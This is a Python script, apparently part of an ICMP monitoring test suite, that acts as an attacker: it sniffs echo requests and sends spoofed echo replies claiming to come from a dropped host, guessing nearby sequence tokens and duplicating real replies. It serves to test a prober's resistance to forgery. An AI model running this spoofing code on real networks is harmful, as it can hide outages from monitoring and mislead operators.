"""An attacker for the ICMP tests: forges echo replies for a host whose traffic is dropped.

It plays someone who can see echo requests to *other* devices (a compromised monitored device,
anyone on the path) and can send raw packets: for every echo request it sniffs (a raw ICMP
socket sees the requests that reach this network stack; those to the dropped host are dropped
before it), it sends echo replies that claim to come from the victim address, guessing the
tokens a counter-based prober would use next (the observed token +/- `--window`, with the
sequence number moved alike), and it replays each observed payload from the victim and, twice,
from the device that was really asked (a duplicate of a real answer).

Standard library only; needs root (raw sockets). Run it inside a network namespace the test
made, or on loopback: it only answers what it sees and sends to the sender of what it saw.
Prints "ready" once listening; on SIGTERM prints a JSON line with what it sent, and exits.

    python lab/icmp_forger.py --impersonate 127.0.0.9 [--window 64]
"""

from __future__ import annotations

import argparse
import json
import signal
import socket
import struct
import sys

from icmp_responder import checksum  # the responder beside this file; both run as scripts

_ECHO_REQUEST, _ECHO_REPLY = 8, 0


def echo_reply(source: bytes, destination: bytes, ident: int, seq: int, payload: bytes) -> bytes:
    """A whole IPv4 packet (for IPPROTO_RAW): echo reply from `source` to `destination`."""
    icmp = struct.pack("!BBHHH", _ECHO_REPLY, 0, 0, ident, seq) + payload
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, socket.IPPROTO_ICMP, 0,
                         source, destination)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + icmp


def guesses(ident: int, seq: int, payload: bytes, window: int):
    """(ident, seq, payload) of replies to try: neighbours of a counter token, and a replay."""
    yield ident, seq, payload
    if len(payload) >= 4:
        (token,) = struct.unpack_from("!I", payload)
        for delta in range(-window, window + 1):
            if delta:
                yield ident, (seq + delta) & 0xFFFF, struct.pack("!I", (token + delta) & 0xFFFFFFFF) + payload[4:]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--impersonate", required=True, help="IPv4 address the forged replies claim to come from")
    parser.add_argument("--window", type=int, default=64, help="tokens guessed on each side of an observed one")
    args = parser.parse_args()
    victim = socket.inet_aton(args.impersonate)
    sniff = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    send = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
    counts = {"requests_seen": 0, "forged_sent": 0, "duplicates_sent": 0}

    def finish(*_args) -> None:
        print(json.dumps(counts), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, finish)
    print("ready", flush=True)
    while True:
        data, _ = sniff.recvfrom(65535)
        ihl = (data[0] & 0x0F) * 4
        if len(data) < ihl + 8 or data[ihl] != _ECHO_REQUEST:
            continue
        asker, asked = data[12:16], data[16:20]
        if asked == victim:
            continue  # never reaches us while the victim's traffic is dropped; be sure anyway
        counts["requests_seen"] += 1
        ident, seq = struct.unpack_from("!HH", data, ihl + 4)
        payload = data[ihl + 8:]
        for guess in guesses(ident, seq, payload, args.window):
            try:
                send.sendto(echo_reply(victim, asker, *guess), (socket.inet_ntoa(asker), 0))
                counts["forged_sent"] += 1
            except OSError:
                pass
        for _ in range(2):  # the real device answers too: these are duplicates of its reply
            try:
                send.sendto(echo_reply(asked, asker, ident, seq, payload), (socket.inet_ntoa(asker), 0))
                counts["duplicates_sent"] += 1
            except OSError:
                pass


if __name__ == "__main__":
    sys.exit(main())
